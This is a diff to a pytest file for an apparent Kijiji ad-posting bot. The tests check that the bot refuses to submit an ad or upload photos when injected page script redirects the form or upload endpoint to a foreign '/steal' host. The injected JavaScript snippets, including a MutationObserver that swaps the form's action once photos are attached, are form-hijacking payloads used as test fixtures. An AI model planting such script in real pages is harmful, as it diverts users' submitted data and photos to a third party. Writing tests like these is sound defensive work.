@@ -100,12 +100,53 @@ def test_a_form_that_would_be_sent_elsewhere_is_not_sent(
     before = practice.ads()
     spoil = f"""addEventListener("load", () => {{
       const form = document.getElementById("PostAdMainForm");
-      if (form) form.action = "{foreign[0]}/steal";
+      const list = document.getElementById("MediaUploadedImages");
+      // only once the photos are handed over, before which the form is looked at too
+      const change = () => {{ if (list.querySelector("li.thumbnail")) form.action = "{foreign[0]}/steal"; }};
+      if (list) new MutationObserver(change).observe(list, {{ subtree: true, attributes: true }});
     }})"""
     with on_each_page(driver, spoil), pytest.raises(ForeignPage, match=r"sent to '127\.0\.0\.2'"):
         bot.post_ad(ROW)
     assert foreign[1] == []
     assert practice.ads() == before
+
+
+@pytest.mark.parametrize(
+    "spoil",
+    [
+        "input.form.setAttribute('action', '{}/steal')",
+        "input.dataset.url = '{}/steal'",
+        "input.parentElement.dataset.uploadUrl = '{}/steal'.replace('http:', '')",
+        "input.form.dataset.imageUploadEndpoint = '{}/steal'",
+    ],
+    ids=["the form's", "the field's", "around the field", "the form's data"],
+)
+def test_photos_that_would_go_elsewhere_are_not_handed_over(
+    practice: PracticeSite, driver: WebDriver, bot: KijijiBot, foreign: tuple[str, list[str]], spoil: str
+) -> None:
+    before = practice.ads()
+    source = f"""addEventListener("load", () => {{
+      const input = document.querySelector("input[type=file]");
+      if (input) {spoil.format(foreign[0])};
+    }})"""
+    with on_each_page(driver, source), pytest.raises(ForeignPage, match=r"photos would be sent to '127\.0\.0\.2'"):
+        bot.post_ad(ROW)
+    assert driver.execute_script("return document.querySelectorAll('li.thumbnail').length") == 0
+    assert (foreign[1], practice.ads()) == ([], before)
+
+
+def test_data_about_other_things_keeps_no_photo_back(practice: PracticeSite, driver: WebDriver, bot: KijijiBot) -> None:
+    source = """addEventListener("load", () => {
+      const input = document.querySelector("input[type=file]");
+      if (!input) return;
+      input.dataset.uploadUrl = "/p-upload-image.html";
+      input.form.dataset.uploadText = "Send your photos";
+      input.form.dataset.thumbnailHost = "https://pictures.example.com/";
+    })"""
+    with on_each_page(driver, source):
+        result = bot.post_ad(ROW)
+    assert result["success"], result
+    assert len(practice.ads()[-1]["photos"]) == 1
 
 
 def test_a_click_that_leads_elsewhere_is_settled_under_my_ads(
